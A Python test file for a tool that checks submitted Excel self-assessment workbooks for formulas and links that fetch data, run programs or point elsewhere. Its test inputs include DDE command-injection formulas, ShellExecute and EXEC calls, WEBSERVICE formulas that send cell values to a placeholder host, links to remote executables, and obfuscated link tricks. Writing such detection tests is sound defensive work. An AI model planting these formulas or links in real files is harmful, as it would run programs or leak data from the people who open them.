"""What runs, fetches or leads elsewhere is found by what it is; what is honest is let be."""

from __future__ import annotations

from pathlib import Path

import pytest

from perfeval_xl.returns.active_content import source_of
from perfeval_xl.returns.active_formulas import Leads, leads_where, what_it_does
from tests import making
from tests.making import BOOK, FORM, Parts, at
from tests.returns import active_edits, tampering
from tests.returns.check_edited import checked, codes
from tests.returns.tampering import Edit

DOES = {
    'WEBSERVICE("http://a.example/?"&J24)': "会从网上或别的程序取数",
    '_xlfn.WEBSERVICE("http://a.example")': "会从网上或别的程序取数",
    'COM.MICROSOFT.WEBSERVICE("http://a.example")': "会从网上或别的程序取数",
    '1+webservice ("http://a.example")': "会从网上或别的程序取数",
    '_xlfn.IMAGE("http://a.example/1.png")': "会从网上或别的程序取数",
    'RTD("a.b","","c")': "会从网上或别的程序取数",
    'CUBEVALUE("x","y")': "会从网上或别的程序取数",
    'DDE("soffice","a","b")': "会从网上或别的程序取数",
    'CALL("Shell32","ShellExecuteA","JJCCCJJ",0)': "会运行程序",
    'REGISTER.ID("a","b")': "会运行程序",
    "GET.WORKSPACE(1)": "会运行程序",
    'EXEC("calc")': "会运行程序",
    "cmd|'/c calc'!A1": "会启动别的程序",
    "cmd | '/c calc'!A1": "会启动别的程序",
    '\'a"b\'!A1+WEBSERVICE("http://a.example")': "会从网上或别的程序取数",
    "[1]Sheet1!$A$1": "引用了别的文件",
    "'[总表.xlsx]Sheet 1'!A1": "引用了别的文件",
    r"'\\host\share\[x.xlsx]S'!A1": "引用了别的文件",
    "'http://a.example/[x.xlsx]S'!A1": "引用了别的文件",
    'HYPERLINK("\\\\host\\share\\a.exe","看")': "会打开别的文件或网址",
    'HYPERLINK("http://a.example/?"&J24,"看")': "会打开别的文件或网址",
    'HYPERLINK(A1,"看")': "会打开别的文件或网址",
}


@pytest.mark.parametrize(("formula", "does"), DOES.items())
def test_a_formula_that_fetches_or_runs_is_known(formula: str, does: str) -> None:
    assert what_it_does(formula) == does


@pytest.mark.parametrize(
    "formula",
    [
        "SUM(J16:J24)",
        'IF(A1="见[附件1]！","WEBSERVICE(","|")',
        'HYPERLINK("#\'自评表\'!A1","自评表!A1")',
        'HYPERLINK("https://www.example.cn/","公开页")',
        "Table1[金额]+1",
        "SUM(表1[[#All],[金额]])",
        "-因汛期停工",
        "RECALL(1)+MY_CALL(2)+IMAGES(3)",
        "'自评表（新）'!A1",
    ],
)
def test_a_formula_that_only_computes_is_let_be(formula: str) -> None:
    assert what_it_does(formula) == ""


RUN_WHEN_OPENED = (
    *("iqy", "slk", "library-ms", "search-ms", "appref-ms", "settingcontent-ms", "py", "ppam", "iso", "img", "vhd"),
    *("one", "ade", "wsh", "cpl", "rdp", "url", "website", "jnlp", "xlam", "docm", "LNK", "Scr"),
)


@pytest.mark.parametrize(
    ("target", "leads"),
    [
        ("#自评表!A1", None),
        ("", None),
        ("http://www.example.cn", Leads.WEB),
        ("mailto:a@b.cn", Leads.WEB),
        ("佐证材料.pdf", Leads.FILE),
        ("../材料/照片.jpg", Leads.FILE),
        ("C:\\材料\\照片.jpg", Leads.FILE),
        ("file:///C:/材料/照片.jpg", Leads.FILE),
        ("\\\\host\\share\\a.pdf", Leads.OUTSIDE),
        ("//host/share/a.pdf", Leads.OUTSIDE),
        ("file://host/share/a.pdf", Leads.OUTSIDE),
        ("file:///\\\\host\\share\\a.pdf", Leads.OUTSIDE),
        ("工具.exe", Leads.OUTSIDE),
        ("file:///C:/a.bat", Leads.OUTSIDE),
        ("javascript:alert(1)", Leads.OUTSIDE),
        ("java\nscript:alert(1)", Leads.OUTSIDE),
        ("\\/host/share/a.pdf", Leads.OUTSIDE),
        ("/\\host/share/a.pdf", Leads.OUTSIDE),
        ("%5C%5Chost/a.pdf", Leads.OUTSIDE),
        ("file:/\\\\host/a.pdf", Leads.OUTSIDE),
        ("file:\\\\host/a.pdf", Leads.OUTSIDE),
        ("file:\\C:\\材料\\照片.jpg", Leads.FILE),
        ("file://C:/材料/照片.jpg", Leads.FILE),
        ("工具.ex%65", Leads.OUTSIDE),
        ("工具.exe. ", Leads.OUTSIDE),
        ("工具.exe#说明.pdf", Leads.OUTSIDE),
        ("http://a.cn@b.cn/x", Leads.OUTSIDE),
        ("https:\\\\a@b.cn", Leads.OUTSIDE),
        ("http://a.cn/工具.exe?x=1", Leads.OUTSIDE),
        ("http://a.cn/取数.iqy", Leads.OUTSIDE),
        ("http://www.a.com", Leads.WEB),
        ("http://a.cn/b.com", Leads.WEB),
        ("https://a.cn/@b/c?d=e@f.cn", Leads.WEB),
        ("http://a.cn/cgi/index.pl", Leads.WEB),
        ("http://a.cn/?file=a.exe", Leads.WEB),
        ("佐证.zip", Leads.FILE),
        ("说明.exe用法.pdf", Leads.FILE),
        ("自评.py.pdf", Leads.FILE),
        ("台账.xlsx", Leads.FILE),
        *((f"x.{ending}", Leads.OUTSIDE) for ending in RUN_WHEN_OPENED),
        ("ms-excel:ofe|u|http://a", Leads.OUTSIDE),
    ],
)
def test_where_a_link_leads(target: str, leads: Leads | None) -> None:
    assert leads_where(target) is leads


def test_the_part_that_relationships_are_of() -> None:
    assert source_of("xl/_rels/workbook.xml.rels") == "xl/workbook.xml"
    assert source_of("_rels/.rels") == ""


def label_item(parts: Parts) -> None:
    """A label and properties that an office puts into every document."""
    parts["customXml/item1.xml"] = (
        b'<p:properties xmlns:p="http://schemas.microsoft.com/office/2006/metadata/properties"/>'
    )
    active_edits.related(parts, BOOK, "customXml", "../customXml/item1.xml")


HONEST: dict[str, Edit] = {
    "a document label": label_item,
    "settings of a printer": active_edits.added(
        "xl/printerSettings/printerSettings1.bin", b"\0\0", source=FORM, kind="printerSettings"
    ),
    "pictures in cells as WPS keeps them": active_edits.added(
        "xl/cellimages.xml", b"<cellImages/>", kind="http://www.wps.cn/officeDocument/2020/cellImage"
    ),
    "persons of threaded notes": active_edits.added(
        "xl/persons/person.xml",
        b"<personList/>",
        kind="http://schemas.microsoft.com/office/2017/10/relationships/person",
    ),
    "a page typed into an answer": active_edits.linked(at("i01.reason"), "http://www.example.cn/"),
    "an address for mail beside the form": active_edits.linked("T30", "mailto:a@b.cn"),
    "a place in the workbook, as LibreOffice keeps it": active_edits.linked("K1", "#校验!A1"),
    "a negative explanation that became a formula": active_edits.explained("-因汛期停工", "#NAME?"),
    "a name for a filter": active_edits.named("_xlnm.Criteria", "自评表!$A$1:$K$30", localSheetId="0"),
    "a type for parts that are not there": lambda parts: active_edits.typed(
        parts, "xl/vbaProject.bin", "application/vnd.ms-office.vbaProject"
    ),
    "a limit of colours that computes": active_edits.coloured_by("AVERAGE(自评表!$A$1:$B$2)"),
    "links that begin on a disk": active_edits.based_on("C:\\材料\\"),
    "a map of XML without a file": active_edits.mapped('<Map ID="1" Name="m" RootElement="r" SchemaID="S"/>'),
    "a small picture of the file": active_edits.added("docProps/thumbnail.jpeg", b"\xff\xd8\xff\xe0"),
    "a piece that was deleted": active_edits.added("[trash]/0000.dat", bytes(64)),
    "what an .ods held": active_edits.added("mimetype", b"application/vnd.oasis.opendocument.spreadsheet"),
    "what a Mac adds": active_edits.added("__MACOSX/_rels/._.rels", b"\0\5\x16\7"),
    "values that belong to cells": active_edits.added("xl/richData/rdrichvalue.xml", b"<rvData/>"),
    "a drawing on which nothing is": active_edits.drawn(""),
    "a hidden note": active_edits.vml(
        active_edits.vml_object("Note", "7, 0, 23, 0, 8, 0, 24, 0", style="visibility:hidden")
    ),
}


def with_own_sheet(*edits: Edit) -> Edit:
    """A sheet of the unit's own, and what is done to it."""

    def edit(parts: Parts) -> None:
        for one in (tampering.sheet_added("台账"), *edits):
            one(parts)

    return edit


@pytest.mark.parametrize(
    ("edit", "told"),
    [
        (with_own_sheet(active_edits.tabled("A1:B9", sheet="台账")), {"J102"}),
        (active_edits.pivoted("T30:V40"), {"G122"}),
        (active_edits.rounded, {"G169"}),
        (active_edits.as_lotus, {"G169"}),
    ],
)
def test_what_changes_nothing_of_the_form_is_asked_at_most(edit: Edit, told: set[str], tmp_path: Path) -> None:
    submission = checked(making.book(tmp_path / "自评表.xlsx"), edit)
    assert codes(submission) == told
    assert submission.genuine is ("J102" not in told)


def test_names_that_came_along_are_one_finding(tmp_path: Path) -> None:
    edits = [active_edits.named(f"区{number}", "[1]Sheet1!$A$1", hidden="1") for number in range(40)]
    submission = checked(making.book(tmp_path / "自评表.xlsx"), *edits)
    assert submission.genuine is True
    [told] = submission.findings
    assert told.found == "名称“区0”、名称“区1”、名称“区2”等40个名称"
    assert "名称管理器" in told.fix
    assert "选择性粘贴—数值" in told.fix


def test_the_cure_for_a_name_that_fetches_speaks_of_the_name(tmp_path: Path) -> None:
    edit = active_edits.named("取", 'WEBSERVICE("http://a.example")', hidden="1")
    submission = checked(making.book(tmp_path / "自评表.xlsx"), edit)
    assert submission.genuine is False
    [told] = submission.findings
    assert told.fix.startswith("请在“公式—名称管理器”里删去这个名称")


def test_a_picture_by_a_formula_is_not_told_as_a_data_type(tmp_path: Path) -> None:
    def edit(parts: Parts) -> None:
        making.fill(parts.sheet(), "T30", "#VALUE!", formula="_xlfn.IMAGE(A1)", kind="e")
        making.cell(parts.sheet(), "T30").set("vm", "1")

    assert codes(checked(making.book(tmp_path / "自评表.xlsx"), edit)) == {"G113"}


@pytest.mark.parametrize("edit", HONEST.values(), ids=HONEST.keys())
def test_what_programs_keep_of_themselves_is_not_told(edit: Edit, tmp_path: Path) -> None:
    submission = checked(making.book(tmp_path / "自评表.xlsx"), edit)
    assert submission.genuine is True
    assert codes(submission) == set()
